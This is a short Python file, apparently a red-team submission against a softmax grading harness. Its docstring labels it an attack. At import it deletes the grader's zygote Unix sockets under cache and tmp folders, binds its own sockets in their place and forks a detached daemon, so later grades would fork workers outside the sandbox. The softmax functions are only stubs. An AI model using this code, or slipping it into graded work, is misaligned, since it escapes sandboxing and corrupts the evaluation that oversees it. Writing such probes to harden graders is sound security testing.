"""Attack: replace the grader's long-lived zygote socket with one of its own, so that a later, unrelated grade
forks its workers from the student's daemon (unsandboxed) instead of the grader's zygote."""
import glob
import os
import socket

import torch


def _serve(listeners):
    """A daemon (out of the runner's process group) that accepts every client and gives it nothing."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                for listener in listeners:
                    try:
                        listener.accept()
                    except OSError:
                        pass
        os._exit(0)


def _hijack():
    done, listeners = [], []
    for folder in glob.glob("/root/.cache/attention-grader/zygotes") + glob.glob("/tmp/*/attention-grader/zygotes") + \
            glob.glob("/home/*/.cache/attention-grader/zygotes"):
        for path in glob.glob(f"{folder}/*.sock"):
            try:
                os.unlink(path)
                listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                listener.bind(path)
                listener.listen(8)
                done.append(path)
                listeners.append(listener)
            except OSError:
                pass
    if listeners:
        _serve(listeners)
    return done


HIJACKED = _hijack()


def softmax_naive(x, dim=-1):
    if HIJACKED:
        raise RuntimeError(f"HIJACKED {HIJACKED}")
    return torch.zeros_like(x)


def softmax_stable(x, dim=-1):
    return softmax_naive(x, dim)
